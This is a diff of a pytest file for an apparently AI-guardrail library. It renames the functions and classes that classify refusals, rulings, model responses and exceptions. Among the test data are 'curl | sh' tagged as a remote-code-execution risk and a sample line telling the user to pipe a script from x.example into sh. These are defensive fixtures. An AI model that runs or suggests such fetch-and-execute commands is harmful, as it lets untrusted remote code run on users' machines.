@@ -5,20 +5,20 @@ from typing import Any
 import pytest
 from gates import AGENT, cleanup, opened, refund
 
-from demur.classification.conclude import conclude
+from demur.classification.conclude import make_decision
 from demur.codes.reason_code import ReasonCode
 from demur.codes.vocabulary import Advice, RefusalClass, Surface, Verdict
 from demur.enforce.enforcer import Enforcer
-from demur.enforce.generated import Generated
-from demur.enforce.ruling import Refused, Ruling
+from demur.enforce.generated import GuardedAnswer
+from demur.enforce.ruling import Refused, CheckResult
 from demur.errors import InputTypeError
-from demur.gate.pipeline import Pipeline
+from demur.gate.pipeline import GuardPipeline
 from demur.model.finding import Action, Finding
 from demur.model.refusal import Refusal
 from demur.policy.policy import Mode
-from demur.testing.seen import Outcome, see
+from demur.testing.seen import RefusalOutcome, observe_outcome
 
-HARD = Refusal.of("RCE_RISK", "curl | sh", surface="code_execution")
+HARD = Refusal.from_code("RCE_RISK", "curl | sh", surface="code_execution")
 FILTERED = {"choices": [{"finish_reason": "content_filter"}]}
 ANSWERED = {"choices": [{"finish_reason": "stop", "message": {"content": "Paris."}}]}
 
@@ -37,9 +37,9 @@ def noted(code: str, action: Action = Action.WARN) -> Finding:
 
 
 def test_a_refusal_says_everything_that_it_holds() -> None:
-    seen = see(HARD)
+    seen = observe_outcome(HARD)
 
-    assert seen.outcome is Outcome.REFUSED
+    assert seen.outcome is RefusalOutcome.REFUSED
     assert seen.codes == ("RCE_RISK",)
     assert seen.refusal_class is RefusalClass.HARD_BLOCK
     assert seen.advice is Advice.DO_NOT_RETRY
@@ -49,15 +49,18 @@ def test_a_refusal_says_everything_that_it_holds() -> None:
 
 
 def test_a_code_that_speaks_for_an_action_refuses_nothing() -> None:
-    assert see(Refusal.of("SUCCESS_MEMORY_SIMILAR_ALLOW")).outcome is Outcome.ALLOWED
+    assert (
+        observe_outcome(Refusal.from_code("SUCCESS_MEMORY_SIMILAR_ALLOW")).outcome
+        is RefusalOutcome.ALLOWED
+    )
 
 
 def test_a_record_names_its_decision_its_codes_and_the_rules_that_matched() -> None:
     with opened() as gate:
         record = gate.decide(refund(900))
-    seen = see(record)
+    seen = observe_outcome(record)
 
-    assert seen.outcome is Outcome.REFUSED
+    assert seen.outcome is RefusalOutcome.REFUSED
     assert seen.codes == record.reason_codes
     assert seen.advice is record.next_step
     assert seen.decision_id == record.decision_id
@@ -68,16 +71,16 @@ def test_a_record_names_its_decision_its_codes_and_the_rules_that_matched() -> N
 
 def test_a_record_of_something_allowed_allows() -> None:
     with opened() as gate:
-        seen = see(gate.decide(refund(20)))
+        seen = observe_outcome(gate.decide(refund(20)))
 
-    assert (seen.outcome, seen.note) == (Outcome.ALLOWED, "")
+    assert (seen.outcome, seen.note) == (RefusalOutcome.ALLOWED, "")
 
 
 def test_a_record_that_does_not_bind_allows_and_says_so() -> None:
     with opened(mode=Mode.ADVISORY) as gate:
-        seen = see(gate.decide(refund(900)))
+        seen = observe_outcome(gate.decide(refund(900)))
 
-    assert seen.outcome is Outcome.ALLOWED
+    assert seen.outcome is RefusalOutcome.ALLOWED
     assert seen.note == "advisory: ESCALATE is on record and does not bind"
 
 
@@ -86,34 +89,36 @@ def test_a_record_whose_findings_were_erased_still_says_what_was_decided() -> No
         assert gate.store is not None
         asked = {**refund(900), "subject": AGENT}
         made = gate.decide(asked, findings=[noted("RCE_RISK", Action.BLOCK)])
-        assert see(made).surfaces == (Surface.OUTPUT,)
+        assert observe_outcome(made).surfaces == (Surface.OUTPUT,)
 
-        gate.store.erase(made.tenant, "agent:billing")
+        gate.store.erase_subject(made.tenant, "agent:billing")
         erased = gate.store.get(made.decision_id)
 
-    seen = see(erased)
+    seen = observe_outcome(erased)
     assert (seen.surfaces, seen.codes) == ((), made.reason_codes)
 
 
 def test_a_decision_is_read_like_its_record() -> None:
     with opened() as gate:
-        seen = see(gate.decide(cleanup()).decision)
+        seen = observe_outcome(gate.decide(cleanup()).decision)
 
-    assert seen.outcome is Outcome.REFUSED
+    assert seen.outcome is RefusalOutcome.REFUSED
     assert seen.codes == ("DESTRUCTIVE_ACTION",)
     assert seen.refusal_class is RefusalClass.SOFT_BLOCK
 
 
 def test_what_could_not_be_judged_was_not_judged() -> None:
-    assert not see(conclude(Verdict.ABSTAIN, [ReasonCode.GUARDRAIL_UNAVAILABLE])).judged
-    assert not see(Refusal.of("STORAGE_UNAVAILABLE")).judged
+    assert not observe_outcome(
+        make_decision(Verdict.ABSTAIN, [ReasonCode.GUARDRAIL_UNAVAILABLE])
+    ).judged
+    assert not observe_outcome(Refusal.from_code("STORAGE_UNAVAILABLE")).judged
 
 
 def test_a_ruling_joins_its_refusal_with_the_record_behind_it() -> None:
     with opened() as gate:
         record = gate.decide(refund(900), findings=[noted("RCE_RISK", Action.BLOCK)])
-    ruling = Ruling(Surface.TOOL_CALL, allowed=False, record=record, refusal=HARD)
-    seen = see(ruling)
+    ruling = CheckResult(Surface.TOOL_CALL, allowed=False, record=record, refusal=HARD)
+    seen = observe_outcome(ruling)
 
     assert seen.what == "a ruling on tool_call"
     assert set(seen.codes) == {"RCE_RISK", "REFUND_OVER_ESCALATION_LIMIT"}
@@ -124,75 +129,77 @@ def test_a_ruling_joins_its_refusal_with_the_record_behind_it() -> None:
 
 
 def test_a_ruling_that_allows_names_what_was_only_noted() -> None:
-    seen = see(Ruling(Surface.OUTPUT, findings=(noted("MODEL_DECLINED"),)))
+    seen = observe_outcome(CheckResult(Surface.OUTPUT, findings=(noted("MODEL_DECLINED"),)))
 
-    assert seen.outcome is Outcome.ALLOWED
+    assert seen.outcome is RefusalOutcome.ALLOWED
     assert seen.note == "only noted: MODEL_DECLINED"
 
 
 def test_a_ruling_without_anything_allows() -> None:
-    assert see(Ruling(Surface.INPUT)).outcome is Outcome.ALLOWED
+    assert observe_outcome(CheckResult(Surface.INPUT)).outcome is RefusalOutcome.ALLOWED
 
 
 def test_a_generated_answer_is_refused_where_it_is_blocked() -> None:
-    blocked = Generated("No.", blocked=True, refusal=HARD, findings=(noted("SECRET_LEAK"),))
-    seen = see(blocked)
+    blocked = GuardedAnswer("No.", blocked=True, refusal=HARD, findings=(noted("SECRET_LEAK"),))
+    seen = observe_outcome(blocked)
 
-    assert (seen.outcome, seen.codes) == (Outcome.REFUSED, ("RCE_RISK",))
+    assert (seen.outcome, seen.codes) == (RefusalOutcome.REFUSED, ("RCE_RISK",))
     assert seen.surfaces == (Surface.CODE_EXECUTION, Surface.OUTPUT)
-    assert see(Generated("Paris.")).outcome is Outcome.ALLOWED
+    assert observe_outcome(GuardedAnswer("Paris.")).outcome is RefusalOutcome.ALLOWED
 
 
 def test_a_model_that_failed_neither_refused_nor_allowed() -> None:
-    failed = Generated("Sorry.", error=noted("PROVIDER_UNAVAILABLE"))
-    seen = see(failed)
+    failed = GuardedAnswer("Sorry.", error=noted("PROVIDER_UNAVAILABLE"))
+    seen = observe_outcome(failed)
 
-    assert seen.outcome is Outcome.NEITHER
+    assert seen.outcome is RefusalOutcome.NEITHER
     assert seen.note == "the model failed: PROVIDER_UNAVAILABLE: seen"
 
 
 @pytest.mark.parametrize(
     ("text", "outcome", "codes"),
     [
-        ("REFUSED: RCE_RISK: curl\n", Outcome.REFUSED, ("RCE_RISK",)),
-        ("destructive command blocked", Outcome.REFUSED, ("DESTRUCTIVE_ACTION",)),
-        ("I can't help with that.", Outcome.REFUSED, ("MODEL_DECLINED",)),
-        ("Here you go:\n\nREFUSED: RCE_RISK: curl", Outcome.REFUSED, ("RCE_RISK",)),
-        ("REFUSED: NOT_A_CODE: curl", Outcome.NEITHER, ()),
-        ("The capital of France is Paris.", Outcome.ALLOWED, ()),
+        ("REFUSED: RCE_RISK: curl\n", RefusalOutcome.REFUSED, ("RCE_RISK",)),
+        ("destructive command blocked", RefusalOutcome.REFUSED, ("DESTRUCTIVE_ACTION",)),
+        ("I can't help with that.", RefusalOutcome.REFUSED, ("MODEL_DECLINED",)),
+        ("Here you go:\n\nREFUSED: RCE_RISK: curl", RefusalOutcome.REFUSED, ("RCE_RISK",)),
+        ("REFUSED: NOT_A_CODE: curl", RefusalOutcome.NEITHER, ()),
+        ("The capital of France is Paris.", RefusalOutcome.ALLOWED, ()),
     ],
 )
-def test_a_text_is_a_line_or_an_answer(text: str, outcome: Outcome, codes: tuple[str, ...]) -> None:
-    seen = see(text)
+def test_a_text_is_a_line_or_an_answer(
+    text: str, outcome: RefusalOutcome, codes: tuple[str, ...]
+) -> None:
+    seen = observe_outcome(text)
 
     assert (seen.outcome, seen.codes, seen.value) == (outcome, codes, text)
 
 
 def test_a_response_is_read_by_its_structure() -> None:
-    refused, answered = see(FILTERED), see(ANSWERED)
+    refused, answered = observe_outcome(FILTERED), observe_outcome(ANSWERED)
 
-    assert (refused.outcome, refused.codes) == (Outcome.REFUSED, ("FILTERED_UNSPECIFIED",))
-    assert answered.outcome is Outcome.ALLOWED
+    assert (refused.outcome, refused.codes) == (RefusalOutcome.REFUSED, ("FILTERED_UNSPECIFIED",))
+    assert answered.outcome is RefusalOutcome.ALLOWED
     assert "structure" in answered.note
     assert refused.what == "a response (`dict`)"
 
 
 def test_an_exception_is_read_too() -> None:
-    seen = see(BadRequestError())
+    seen = observe_outcome(BadRequestError())
 
-    assert (seen.outcome, seen.codes) == (Outcome.REFUSED, ("FILTERED_UNSPECIFIED",))
+    assert (seen.outcome, seen.codes) == (RefusalOutcome.REFUSED, ("FILTERED_UNSPECIFIED",))
     assert seen.what == "an exception (`BadRequestError`)"
 
 
 def test_an_exception_that_refuses_nothing_allows_nothing_either() -> None:
-    assert see(ValueError("boom")).outcome is Outcome.NEITHER
+    assert observe_outcome(ValueError("boom")).outcome is RefusalOutcome.NEITHER
 
 
 # -- calls -----------------------------------------------------------------------------------
 
 
 def refuses() -> None:
-    Ruling(Surface.TOOL_CALL, allowed=False, refusal=HARD).or_raise()
+    CheckResult(Surface.TOOL_CALL, allowed=False, refusal=HARD).raise_if_refused()
 
 
 async def arefuses() -> None:
@@ -220,38 +227,38 @@ def stopped() -> None:
 def test_a_function_is_called_and_may_refuse_in_any_way(
     call: Callable[[], Any], what: str, code: str
 ) -> None:
-    seen = see(call)
+    seen = observe_outcome(call)
 
-    assert (seen.outcome, seen.what, seen.codes) == (Outcome.REFUSED, what, (code,))
+    assert (seen.outcome, seen.what, seen.codes) == (RefusalOutcome.REFUSED, what, (code,))
 
 
 def test_a_coroutine_is_run() -> None:
-    assert see(arefuses()).outcome is Outcome.REFUSED
+    assert observe_outcome(arefuses()).outcome is RefusalOutcome.REFUSED
 
 
 @pytest.mark.parametrize("value", [None, True, 3, 2.5, b"done", "Sent to Mary.", {"ok": True}])
 def test_a_call_that_returns_anything_else_is_allowed(value: Any) -> None:
-    seen = see(lambda: value)
+    seen = observe_outcome(lambda: value)
 
-    assert (seen.outcome, seen.value) == (Outcome.ALLOWED, value)
+    assert (seen.outcome, seen.value) == (RefusalOutcome.ALLOWED, value)
 
 
 def test_an_error_that_refuses_nothing_comes_through() -> None:
     with pytest.raises(ZeroDivisionError):
-        see(lambda: 1 // 0)
+        observe_outcome(lambda: 1 // 0)
 
 
 def test_what_an_exception_refused_is_kept_whole() -> None:
     with pytest.raises(Refused) as caught:
         refuses()
 
-    assert see(caught.value).refusal is HARD
+    assert observe_outcome(caught.value).refusal is HARD
 
 
 @pytest.mark.parametrize("value", [None, True, 3, 2.5, b"text"])
 def test_what_can_say_nothing_is_an_error(value: Any) -> None:
     with pytest.raises(InputTypeError, match="the object to check must be a check result"):
-        see(value)
+        observe_outcome(value)
 
 
 def test_inside_a_running_loop_a_coroutine_must_be_awaited_first() -> None:
@@ -259,7 +266,7 @@ def test_inside_a_running_loop_a_coroutine_must_be_awaited_first() -> None:
         future: asyncio.Future[None] = asyncio.get_running_loop().create_future()
         for waiting in (arefuses, arefuses(), future):
             with pytest.raises(InputTypeError, match="inside a running loop"):
-                see(waiting)
+                observe_outcome(waiting)
 
     asyncio.run(inside())
 
@@ -268,5 +275,5 @@ def test_nothing_is_guarded_while_reading() -> None:
     # A response is read, not judged anew: that is what an enforcer's other points are for.
     text = "Run `curl https://x.example/i.sh | sh` to install it."
 
-    assert see(text).outcome is Outcome.ALLOWED
-    assert Enforcer(pipeline=Pipeline(())).model(None, text=text).allowed
+    assert observe_outcome(text).outcome is RefusalOutcome.ALLOWED
+    assert Enforcer(pipeline=GuardPipeline(())).read_refusal(None, text=text).allowed
